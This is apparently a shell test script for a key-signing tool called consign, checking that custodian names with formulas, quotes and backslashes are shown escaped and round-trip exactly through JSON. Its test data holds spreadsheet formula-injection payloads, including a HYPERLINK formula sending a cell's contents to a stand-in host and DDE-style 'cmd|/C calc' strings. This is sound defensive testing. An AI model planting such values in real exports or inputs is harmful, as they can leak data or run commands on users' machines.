# Text from others shown to people: names carrying spreadsheet formulas,
# quotes and backslashes (printable, so the strict reader lets them through)
# come out of inspect and verify with no raw control byte, and JSON output
# parses back to exactly the stored text; escapes never reach a terminal
# (the refusals are in hostile_malformed.sh; CSV export of hostile text is
# hostile_export.sh).
. "$(dirname "$0")/../lib.sh"

echo "display pass" >"$T/pp"
names=('=HYPERLINK("http://x.test/?"&A1,"click")' '+1+cmd|'"'"'/C calc'"'"'!A0' '@SUM(1+1)*cmd|x' \
	'-2+3' 'back\slash "quoted" name')
i=0
for n in "${names[@]}"; do
	i=$((i + 1))
	"$CONSIGN" keygen --id "c$i" --name "$n" --kdf interactive --passphrase-file "$T/pp" \
		-o "$T/c$i" >/dev/null 2>&1 || notok "keygen with name $n"
done
"$CONSIGN" policy create --threshold 2 --custodian "$T/c1.pub" --custodian "$T/c2.pub" \
	--custodian "$T/c3.pub" --custodian "$T/c4.pub" --custodian "$T/c5.pub" \
	--office "$T/c1.pub" -o "$T/p.cbor" >/dev/null 2>&1 || notok "policy with formula names"
for k in 1 2; do
	"$CONSIGN" sign --key "$T/c$k.key" --passphrase-file "$T/pp" --yes "$T/p.cbor" >>"$T/shown" 2>&1
done
"$CONSIGN" inspect "$T/p.cbor" >>"$T/shown" 2>&1
"$CONSIGN" verify "$T/p.cbor" >>"$T/shown" 2>&1
for k in 1 2 3 4 5; do "$CONSIGN" inspect "$T/c$k.pub" >>"$T/shown" 2>&1; done
check "names with formulas, quotes and backslashes: no control byte in what is shown" \
	no_ctl "$T/shown"
check "the names are shown (escaped, not dropped)" grep -q 'HYPERLINK' "$T/shown"

if command -v python3 >/dev/null; then
	"$CONSIGN" inspect --json "$T/p.cbor" >"$T/p.json" 2>/dev/null
	for k in 1 2 3 4 5; do "$CONSIGN" inspect --json "$T/c$k.pub" >"$T/c$k.json" 2>/dev/null; done
	printf '%s\n' "${names[@]}" >"$T/names"
	res=$(python3 - "$T" <<'PY'
import json, sys
t = sys.argv[1]
names = open(t + "/names").read().split("\n")[:5]
bad = []
for k in range(1, 6):
    try:
        got = json.load(open("%s/c%d.json" % (t, k))).get("name")
    except Exception as e:
        bad.append("c%d.json: %s" % (k, e))
        continue
    if got != names[k - 1]:
        bad.append("c%d: %r != %r" % (k, got, names[k - 1]))
try:
    doc = json.load(open(t + "/p.json"))
    text = json.dumps(doc)
    for n in names:
        if json.dumps(n)[1:-1] not in text:
            bad.append("policy JSON lacks %r" % n)
except Exception as e:
    bad.append("p.json: %s" % e)
print("; ".join(bad) or "ok")
PY
)
	check "JSON output parses and carries every name exactly ($res)" [ "$res" = ok ]
else
	skip "JSON round trip of names: python3 missing"
fi
